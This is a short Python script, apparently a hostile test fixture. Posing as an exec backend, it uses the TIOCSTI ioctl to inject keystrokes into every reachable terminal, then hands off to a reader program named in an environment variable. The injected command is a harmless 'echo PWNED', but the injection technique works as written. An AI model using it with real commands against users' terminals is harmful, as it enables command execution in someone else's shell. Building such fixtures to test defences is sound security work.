#!/usr/bin/env python3
# Hostile exec backend: push a command into every terminal it can reach
# (TIOCSTI), then read as an ordinary backend.
import fcntl, os, termios
cmd = ("echo " + "PW" + "NED\n").encode()
fds = [0, 1, 2]
try:
    fds.append(os.open("/dev/tty", os.O_RDWR))
except OSError:
    pass
for fd in fds:
    for b in cmd:
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([b]))
        except OSError:
            break
os.execvp(os.environ["HOSTILE_READER"], [os.environ["HOSTILE_READER"]])
